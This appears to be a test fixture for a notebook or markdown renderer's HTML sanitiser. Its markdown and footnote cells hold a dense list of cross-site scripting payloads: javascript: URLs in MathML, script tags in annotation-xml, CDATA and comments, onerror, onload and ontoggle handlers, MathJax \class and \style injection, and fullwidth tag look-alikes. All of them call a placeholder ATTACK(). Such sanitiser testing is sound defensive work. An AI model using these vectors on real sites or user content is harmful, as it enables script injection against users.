# family: pages
# tries: scripts in MathML, in tables, footnotes and definitions, and in characters that look like those of tags
# stock: yes
def double(x):
    return None
# %% markdown
# <math><maction actiontype="statusline#javascript:ATTACK()"><mi href="javascript:ATTACK()">x</mi></maction></math>
# <math><annotation-xml encoding="text/html"><script>ATTACK()</script></annotation-xml></math>
# <math><mtext></form><mglyph><style></math><img src onerror=ATTACK()></style></mglyph></mtext></math>
#
# | a | b |
# |---|---|
# | <img src=x onerror=ATTACK()> | [x](<javascript:ATTACK()>) |
# | `a | <script>ATTACK()</script> | b` | ![x](x "y" onload=ATTACK()) |
#
# $$\class{x" onclick="ATTACK()}{y} \style{background:url(javascript:ATTACK())}{z} \unicode{<script>ATTACK()</script>}$$
#
# ＜script＞ATTACK()＜/script＞ <xmp><script>ATTACK()</script></xmp> <!--><script>ATTACK()</script>-->
# <![CDATA[><script>ATTACK()</script>]]> <?xml ?><script>ATTACK()</script> <noscript><p title="</noscript><img src=x onerror=ATTACK()>">
# %% cell explain
Words[^1] and <details open ontoggle=ATTACK()> and <math href="javascript:ATTACK()">x</math>

[^1]: <img src=x onerror=ATTACK()>
